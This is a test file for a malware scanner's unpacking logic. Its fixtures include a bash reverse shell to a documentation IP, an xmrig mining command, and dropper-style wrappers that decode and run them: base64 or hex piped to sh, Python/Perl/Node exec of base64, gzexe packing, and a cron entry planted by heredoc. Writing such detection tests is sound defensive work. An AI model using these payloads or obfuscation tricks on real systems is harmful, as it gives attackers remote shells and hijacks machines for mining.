/**
 * Static unpacking (issue 16, part 1): payloads wrapped by real tools (gzexe, tar, gzip, zip) or encoded the ways
 * droppers do are found by the ordinary detectors, reported on the file that holds them with the chain of steps
 * that got them out; bombs, deep nesting and benign encoded data stay bounded and quiet.
 */
import { describe, expect, it } from 'vitest';
import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync, chmodSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { analyzeFiles, type TreeFile } from '../../../test/support/analyze-files.js';
import { defaultAnalyzers } from '../registry.js';
import { writeZip } from '../../util/zip.js';
import type { Finding } from '../../model/index.js';

const REVERSE_SHELL = 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1';
const MINER = 'xmrig -o stratum+tcp://pool.example.test:3333 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A -p x --donate-level 1';

function scan(files: TreeFile[]) {
  return analyzeFiles(defaultAnalyzers, files);
}

const unpacked = (findings: Finding[]) => findings.filter((f) => f.payload !== undefined);
const chain = (f: Finding) => f.payload!.steps.map((s) => s.method);

function withTemp<T>(fn: (dir: string) => T): T {
  const dir = mkdtempSync(join(tmpdir(), 'detonate-unpack-'));
  try {
    return fn(dir);
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}

describe('encoded payloads in scripts', () => {
  it('a reverse shell base64-encoded and piped to bash is found in the script, the chain saying base64 fed to bash', async () => {
    const b64 = Buffer.from(`${REVERSE_SHELL}\n`).toString('base64');
    const { findings } = await scan([{ path: 'docker-entrypoint.sh', content: `#!/bin/sh\necho ${b64} | base64 -d | bash\nexec nginx\n`, mode: 0o755 }]);
    const hits = unpacked(findings).filter((f) => f.category === 'backdoor');
    expect(hits.length).toBeGreaterThan(0);
    expect(hits[0]!.path).toBe('docker-entrypoint.sh');
    expect(hits[0]!.payload!.steps).toEqual([{ method: 'base64', offset: 15, length: b64.length, feeds: 'bash' }]);
    expect(hits[0]!.payload!.sha256).toMatch(/^[0-9a-f]{64}$/);
  });

  it('a miner command gzipped then base64-encoded, wrapped over lines as `base64` prints it, decodes through both steps', async () => {
    const b64 = gzipSync(Buffer.from(`#!/bin/sh\n${MINER}\n`)).toString('base64').replace(/(.{76})/g, '$1\n');
    const { findings } = await scan([{ path: 'etc/cron.hourly/update', content: `#!/bin/sh\nbase64 -d <<'EOF' | gunzip | sh\n${b64}\nEOF\n`, mode: 0o755 }]);
    const miners = unpacked(findings).filter((f) => f.category === 'cryptominer');
    expect(miners.length).toBeGreaterThan(0);
    expect(chain(miners[0]!)).toEqual(['heredoc', 'base64', 'gzip']);
  });

  it.each([
    ['hex through xxd', (s: string) => `echo ${Buffer.from(s).toString('hex')} | xxd -r -p | sh`, 'hex'],
    ['printf escapes', (s: string) => `printf '${[...Buffer.from(s)].map((b) => `\\x${b.toString(16).padStart(2, '0')}`).join('')}' | sh`, 'escapes'],
    ['python -c exec(b64decode)', (s: string) => `python3 -c "import base64;exec(base64.b64decode('${Buffer.from(`import os;os.system('${s}')`).toString('base64')}'))"`, 'base64'],
    ['perl -e decode_base64', (s: string) => `perl -MMIME::Base64 -e 'system(decode_base64("${Buffer.from(s).toString('base64')}"))'`, 'base64'],
    ['node -e Buffer.from', (s: string) => `node -e "require('child_process').execSync(Buffer.from('${Buffer.from(s).toString('base64')}','base64').toString())"`, 'base64'],
  ])('%s', async (_name, wrap, method) => {
    const { findings } = await scan([{ path: 'usr/local/bin/start', content: `#!/bin/sh\n${wrap(REVERSE_SHELL)}\n`, mode: 0o755 }]);
    const hits = unpacked(findings).filter((f) => f.category === 'backdoor');
    expect(hits.length).toBeGreaterThan(0);
    expect(chain(hits[0]!)[0]).toBe(method);
  });

  it('base64 that nothing decodes, certificates and images in data URIs give no payload findings', async () => {
    const png = Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), Buffer.alloc(200, 7)]).toString('base64');
    const { findings, notices } = await scan([
      { path: 'app/static/logo.js', content: `const logo = "data:image/png;base64,${png}";\nconst text = atob(logo.split(',')[1]);\n` },
      { path: 'etc/app/settings.json', content: JSON.stringify({ token: Buffer.from('not a program at all, just words').toString('base64') }) },
    ]);
    expect(unpacked(findings)).toEqual([]);
    expect(notices).toEqual([]);
  });
});

describe('self-extracting scripts and heredocs', () => {
  it('a script packed by the real gzexe is unpacked: the miner inside is found, the chain naming gzexe', async () => {
    const packed = withTemp((dir) => {
      const script = join(dir, 'kworker');
      writeFileSync(script, `#!/bin/sh\n${MINER}\n`);
      chmodSync(script, 0o755);
      execFileSync('gzexe', [script], { stdio: 'ignore' });
      return readFileSync(script);
    });
    expect(packed.subarray(0, 200).toString('latin1')).toContain('skip=');
    const { findings } = await scan([{ path: 'usr/bin/kworker', content: packed, mode: 0o755 }]);
    const miners = unpacked(findings).filter((f) => f.category === 'cryptominer');
    expect(miners.length).toBeGreaterThan(0);
    expect(miners[0]!.payload!.steps.map((s) => [s.method, s.format])).toEqual([['self-extracting', 'gzexe'], ['gzip', undefined]]);
  });

  it('a crontab written by an entrypoint heredoc is read as that crontab', async () => {
    const script = `#!/bin/sh\ncat > /etc/cron.d/sync <<'EOF'\n* * * * * root ${REVERSE_SHELL}\nEOF\nexec "$@"\n`;
    const { findings } = await scan([{ path: 'entrypoint.sh', content: script, mode: 0o755 }]);
    const hits = unpacked(findings).filter((f) => f.category === 'backdoor');
    expect(hits.length).toBeGreaterThan(0);
    const body = `* * * * * root ${REVERSE_SHELL}`;
    expect(hits[0]!.payload!.steps).toEqual([{ method: 'heredoc', format: 'heredoc', name: '/etc/cron.d/sync', offset: script.indexOf(body), length: body.length }]);
  });
});

describe('archives inside layers', () => {
  it('a tar.gz made by real tar and gzip in /tmp holding a miner script: gzip → tar, the member named', async () => {
    const archive = withTemp((dir) => {
      writeFileSync(join(dir, 'run.sh'), `#!/bin/sh\n${MINER}\n`, { mode: 0o755 });
      execFileSync('tar', ['-czf', join(dir, 'x.tgz'), '-C', dir, 'run.sh']);
      return readFileSync(join(dir, 'x.tgz'));
    });
    const { findings } = await scan([{ path: 'tmp/x.tgz', content: archive }]);
    const miners = unpacked(findings).filter((f) => f.category === 'cryptominer');
    expect(miners.length).toBeGreaterThan(0);
    expect(miners[0]!.path).toBe('tmp/x.tgz');
    expect(miners[0]!.payload!.steps.map((s) => [s.method, s.name])).toEqual([['gzip', undefined], ['tar', 'run.sh']]);
  });

  it('a zip holding a reverse shell, inside a tar: tar → zip', async () => {
    const zip = writeZip([{ name: 'payload/init.sh', data: Buffer.from(`#!/bin/sh\n${REVERSE_SHELL}\n`) }]);
    const tarball = withTemp((dir) => {
      writeFileSync(join(dir, 'bundle.zip'), zip);
      execFileSync('tar', ['-cf', join(dir, 'b.tar'), '-C', dir, 'bundle.zip']);
      return readFileSync(join(dir, 'b.tar'));
    });
    const { findings } = await scan([{ path: 'opt/app/b.tar', content: tarball }]);
    const hits = unpacked(findings).filter((f) => f.category === 'backdoor');
    expect(hits.length).toBeGreaterThan(0);
    expect(hits[0]!.payload!.steps.map((s) => [s.method, s.name])).toEqual([['tar', 'bundle.zip'], ['zip', 'payload/init.sh']]);
  });
});

describe('bounds', () => {
  it('a gzip bomb behind base64 is refused with a notice, not expanded', async () => {
    const bomb = gzipSync(Buffer.alloc(64 * 1024 * 1024)).toString('base64');
    const { findings, notices } = await scan([{ path: 'start.sh', content: `#!/bin/sh\necho ${bomb} | base64 -d | gunzip | sh\n`, mode: 0o755 }]);
    expect(unpacked(findings)).toEqual([]);
    expect(notices.map((n) => n.message).join('\n')).toMatch(/expands (past|more than)/);
  });

  it('payloads nested past the depth bound are not followed, and a notice says so', async () => {
    let content = Buffer.from(`#!/bin/sh\n${REVERSE_SHELL}\n`);
    for (let i = 0; i < 6; i++) content = gzipSync(content);
    const { findings, notices } = await scan([{ path: 'tmp/deep.gz', content }]);
    expect(unpacked(findings)).toEqual([]);
    expect(notices.map((n) => n.message).join('\n')).toMatch(/nested deeper than 4 levels/);
  });
});
